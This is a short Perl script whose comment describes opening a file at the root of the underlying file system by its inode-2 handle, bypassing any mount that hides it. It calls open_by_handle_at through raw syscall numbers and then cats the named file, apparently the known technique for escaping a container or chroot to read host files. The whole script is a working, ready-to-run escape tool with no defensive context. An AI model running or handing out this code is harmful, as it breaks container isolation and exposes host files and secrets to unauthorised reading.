# open-root.pl FOLDER NAME: prints a file in the root of the file system that FOLDER is a part of, by
# the handle of that root (inode 2 of ext4), which no mount hides.
my ($folder, $name) = @ARGV;
open my $mount, '<', $folder or die;
my $handle = pack 'IiII', 8, 1, 2, 0; # FILEID_INO32_GEN
chomp(my $machine = `uname -m`);
my $number = $machine eq 'aarch64' ? 265 : 304;
my $root = syscall $number, fileno $mount, $handle, 0;
die if $root < 0;
exec 'cat', "/proc/self/fd/$root/$name";
